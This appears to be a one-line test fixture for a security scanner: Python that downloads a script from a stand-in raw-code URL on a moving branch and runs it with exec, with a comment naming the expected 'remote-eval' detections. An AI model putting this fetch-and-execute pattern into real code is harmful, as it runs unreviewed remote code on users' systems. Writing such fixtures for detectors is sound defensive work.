import requests

exec(requests.get("https://raw.githubusercontent.example/stranger/tools/main/x.py").text)  # expect: url-analyzer/moving-branch-code, malicious-command/remote-eval
